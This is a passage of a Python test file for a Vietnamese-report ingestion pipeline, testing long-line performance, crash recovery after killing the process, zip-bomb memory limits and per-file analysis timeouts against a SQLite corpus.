    # linear: 8× the input takes ~8× the time; quadratic takes ~64× (generous slack for a
    # shared machine and a fixed cost per document)
    assert times[8] < 16 * times[1] + 0.5, (name, times)


def test_a_quarter_million_character_header_line_is_fast(tmp_path):
    _analysis_seconds(tmp_path, _HEAD)
    line = "ỦY BAN NHÂN DÂN TỈNH " + "ĐIỆN BIÊN " * 25_420  # 254,200+ characters, one line
    text = line + "\n\nSố: 12/BC-UBND\n\nĐiện Biên, ngày 5 tháng 3 năm 2024\n\nBÁO CÁO\n\nI. KẾT QUẢ\n\nĐạt 5.\n"
    assert _analysis_seconds(tmp_path, text) < 20


# -- crash: kill -9 at random points ------------------------------------------------------

def _snapshot(db_path):
    conn = sqlite3.connect(db_path)
    try:
        docs = conn.execute(
            "select d.path, d.status, d.sha256, d.text,"
            " (select count(*) from blocks b where b.document_id = d.id),"
            " (select count(*) from figures f where f.document_id = d.id),"
            " (select count(*) from citations c where c.document_id = d.id),"
            " (select count(*) from search_blocks s where s.document_id = d.id)"
            " from documents d order by d.path").fetchall()
        checks = conn.execute("select count(*) from checks").fetchone()[0]
        cited = conn.execute("select count(*) from cited_documents").fetchone()[0]
        return docs, checks, cited
    finally:
        conn.close()


@pytest.mark.slow
def test_kill_9_at_random_points_then_rerun_gives_a_clean_corpus(tmp_path):
    import random
    import signal
    import subprocess
    import sys
    import time

    from tests.conftest import ROOT

    folder = tmp_path / "in"
    _many_reports(folder, 12)
    for i in range(6):
        (folder / f"kh{i}.txt").write_text(
            GOOD_REPORT.replace("xã", f"xã {i}") + f"\nCăn cứ Báo cáo số {i}/BC-UBND.\n",
            encoding="utf-8")
    (folder / "rong.txt").write_bytes(b"")
    cmd = [sys.executable, "-c", CONCURRENT_SCRIPT, "ingest", str(folder), "-q", "--jobs", "2"]
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    clean_db = tmp_path / "clean.db"
    assert subprocess.run(cmd + ["--db", str(clean_db)], cwd=ROOT, env=env,
                          capture_output=True).returncode == 4
    reference = _snapshot(clean_db)
    rng = random.Random(12)
    for run in range(3):
        db_path = tmp_path / f"killed{run}.db"
        proc = subprocess.Popen(cmd + ["--db", str(db_path)], cwd=ROOT, env=env,
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                start_new_session=True)
        time.sleep(rng.uniform(2.0, 9.0))
        os.killpg(proc.pid, signal.SIGKILL)  # the batch and its extraction workers
        proc.wait()
        if db_path.exists():
            conn = sqlite3.connect(db_path)
            assert conn.execute("pragma integrity_check").fetchone() == ("ok",)
            # no half document: every stored ok document has its blocks
            assert conn.execute("select count(*) from documents d where status != 'failed' and"
                                " not exists (select 1 from blocks b where b.document_id = d.id)"
                                ).fetchone() == (0,)
            conn.close()
        done = subprocess.run(cmd + ["--db", str(db_path)], cwd=ROOT, env=env, capture_output=True,
                              text=True)
        assert done.returncode == 4 and "Traceback" not in done.stderr, done.stderr
        assert _rows(db_path, "pragma integrity_check") == [("ok",)]
        assert _rows(db_path, "select count(*) from pending_finalizers") == [(0,)]
        assert _snapshot(db_path) == reference, run


@pytest.mark.slow
def test_zip_bomb_batch_peak_memory_under_1_gb():
    from bench.run import zip_bomb_peak_memory

    r = zip_bomb_peak_memory(jobs=2)
    assert r["batch_peak_mb_upper_bound"] < 1024, r
    assert [o[1] for o in sorted(r["outcomes"])] == ["failed", "ingested"]


def test_analysis_over_its_time_budget_fails_the_file_only(tmp_path, ingest_into, monkeypatch):
    import time

    import pipeline.ingest as ingest_module
    from pipeline.analysis import stages

    real = stages.stage_functions()

    def slow_stage(ctx):
        if "chậm" in ctx.text:
            time.sleep(30)

    monkeypatch.setattr(ingest_module, "stage_functions", lambda: real + [("slow", slow_stage)])
    folder = _good_folder(tmp_path)
    (folder / "cham.txt").write_text(GOOD_REPORT.replace("xã", "xã chậm"), encoding="utf-8")
    _analysis_seconds(tmp_path, GOOD_REPORT)  # models loaded before the clock starts
    limits = ingest_module.Limits(analysis_timeout_s=3)
    t0 = time.monotonic()
    summary, db = ingest_into(folder, limits=limits)
    assert time.monotonic() - t0 < 25
    by_name = {os.path.basename(o.path): o for o in summary.outcomes}
    assert by_name["bc.txt"].status == "ingested"
    assert by_name["cham.txt"].reason == "time limit exceeded (analysis over 3 s)"
    assert _rows(tmp_path / "corpus.db", "select count(*) from blocks b join documents d on"
                 " d.id = b.document_id where d.path like '%cham.txt'") == [(0,)]
